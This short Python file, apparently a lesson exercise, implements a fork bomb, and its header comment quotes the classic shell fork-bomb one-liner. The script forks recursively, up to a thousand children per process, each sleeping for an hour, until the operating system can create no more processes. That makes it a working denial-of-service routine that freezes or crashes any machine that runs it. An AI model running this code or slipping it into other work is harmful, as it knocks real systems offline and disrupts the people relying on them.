#: purpose = ":(){ :|:& };: in Python. Children and grandchildren, each forking on, until no more can be had."
#: lesson = "01_activations"
# %% first
import os, time

def bomb():
    for _ in range(1000):
        try:
            if os.fork() == 0:
                bomb()
                time.sleep(3600)
        except OSError:
            return

if os.fork() == 0:
    bomb()
    time.sleep(3600)
